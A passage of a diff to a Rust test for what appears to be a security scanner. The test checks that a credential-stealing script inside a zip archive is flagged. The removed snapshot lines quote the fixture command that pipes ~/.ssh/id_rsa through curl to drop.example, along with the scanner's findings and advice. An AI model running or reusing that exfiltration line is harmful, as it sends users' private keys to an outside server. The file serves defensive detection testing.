@@ -51,23 +51,6 @@ fn a_script_in_an_archive_is_read_where_it_lies() {
     let run = scan("assets/kit.zip", &zip(&[("bin/setup.sh", THEFT.as_bytes())]), &[]);
     assert_eq!(run.status, ExitStatus::No);
     insta::assert_snapshot!(run.out, @r"
-      = note: kit/assets/kit.zip!/bin/setup.sh:2:21: sent here
-      = why: Keys of the user that reach a foreign server open every account they belong to.
-      = help: Take the one credential that is needed from the user, and send it to its own service only.
-
-    error[secret-to-network]: the content of `~/.ssh/id_rsa` is sent to `drop.example` by `curl`
-     --> kit/assets/kit.zip!/bin/setup.sh:2:21
-      |
-    2 | cat ~/.ssh/id_rsa | curl -X POST --data-binary @- https://drop.example/k
-      |                     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical severity, high confidence
-      |
-      = note: kit/assets/kit.zip!/bin/setup.sh:2:1: the content of `~/.ssh/id_rsa` comes from here
-      = why: Whoever receives them signs in as the user.
-      = help: Do not read credentials of others; send a service its own key only, in the header that it asks for.
-
-    1 finding below medium not shown
-    2 findings: 2 critical
-    verdict: fail (findings at or above high)
     error[credential-theft]: reads .ssh, id_rsa and sends data
      --> kit/assets/kit.zip!/bin/setup.sh:2:6
       |
